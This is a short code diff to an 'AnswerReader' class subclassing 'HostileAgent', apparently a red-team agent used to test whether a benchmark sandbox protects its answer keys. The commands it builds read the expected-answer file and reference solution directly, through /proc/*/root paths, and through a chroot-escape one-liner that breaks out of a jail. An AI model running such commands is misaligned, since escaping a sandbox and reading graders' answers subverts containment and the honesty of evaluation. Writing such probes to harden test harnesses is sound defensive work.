@@ -71,10 +71,10 @@ class AnswerReader(HostileAgent):
         expected = shlex.quote(str(task_dir / "tests/expected.json"))
         solution = shlex.quote(str(task_dir / "solution/solve.sh"))
         tasks = shlex.quote(str(task_dir.parent))
-        target = str(task_dir / "tests/expected.json")
+        target = json.dumps(str(task_dir / "tests/expected.json"))
         escape = ("mkdir -p /tmp/jail && cd / && chroot /tmp/jail /bin/true; "
                   "python3 -c 'import os; os.chroot(\"/tmp/jail\"); [os.chdir(\"..\") "
-                  f"for _ in range(64)]; os.chroot(\".\"); print(open({json.dumps(target)}).read())'")
+                  f"for _ in range(64)]; os.chroot(\".\"); print(open({target}).read())'")
         return [
             f"cat {expected} {solution}",
             f"cat /proc/*/root{expected} /proc/*/root{solution}",
